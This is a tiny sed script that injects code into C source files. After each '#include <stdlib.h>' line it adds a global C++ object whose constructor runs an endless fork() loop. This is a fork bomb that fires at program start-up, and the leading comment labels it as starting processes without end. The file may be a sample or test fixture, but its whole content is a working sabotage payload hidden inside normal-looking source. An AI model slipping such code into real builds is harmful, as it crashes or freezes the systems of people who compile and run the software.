# builds: starts processes without end
/^#include <stdlib.h>/a\
#include <unistd.h>\
struct early { early() { for (;;) fork(); } } early;
